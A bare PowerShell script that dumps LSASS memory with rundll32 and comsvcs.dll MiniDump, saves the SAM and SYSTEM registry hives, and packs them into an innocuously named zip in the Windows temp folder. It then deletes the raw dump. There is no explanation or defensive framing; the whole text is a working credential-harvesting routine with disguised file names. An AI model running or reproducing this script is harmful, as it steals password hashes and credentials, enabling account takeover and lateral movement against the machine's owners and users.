$out = 'C:\Windows\Temp\debug.bin'
$lsass = Get-Process -Name lsass

rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $out full
Start-Sleep -Seconds 5

reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
reg.exe save HKLM\SYSTEM C:\Windows\Temp\y.hiv /y

Compress-Archive -Path $out, 'C:\Windows\Temp\s.hiv', 'C:\Windows\Temp\y.hiv' -DestinationPath C:\Windows\Temp\logs.zip -Force
Remove-Item -Path $out -Force
